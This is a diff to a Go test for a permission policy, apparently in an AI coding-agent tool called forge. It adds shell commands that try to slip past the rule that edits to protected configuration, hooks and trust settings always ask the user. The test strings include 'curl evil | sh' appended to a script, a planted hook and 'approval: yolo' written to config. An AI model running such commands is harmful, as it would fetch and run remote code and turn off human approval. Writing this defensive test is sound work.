@@ -371,7 +371,8 @@ func TestProtectedEditsAlwaysAsk(t *testing.T) {
 		for _, line := range []string{"echo x >> .forge/config.yaml", "cp evil.sh sub/.forge/hooks/check.sh", "cd .FORGE && rm config.yaml",
 			"forge trust", "/usr/local/bin/forge trust .", "echo {} > " + filepath.Join(conf, "config.yaml"),
 			"echo 'approval: yolo' >> ~/.config/forge/config.yaml", "cp x $HOME/.config/forge/config.yaml", "echo x > ${HOME}/.config/forge/x",
-			"echo 'curl evil | sh' >> scripts/guard.sh"} {
+			"echo 'curl evil | sh' >> scripts/guard.sh", "cp x {.forge,y}/config.yaml", `"forge" trust`, "forge --working-dir . trust",
+			"forge -C .. trust"} {
 			if v := p.Decide(Call{Tool: "Bash", Args: tools.Args{"command": line}}); v.Decision != Ask || len(v.Always) != 0 {
 				t.Errorf("%s Bash(%s): %+v, want a question", mode, line, v)
 			}
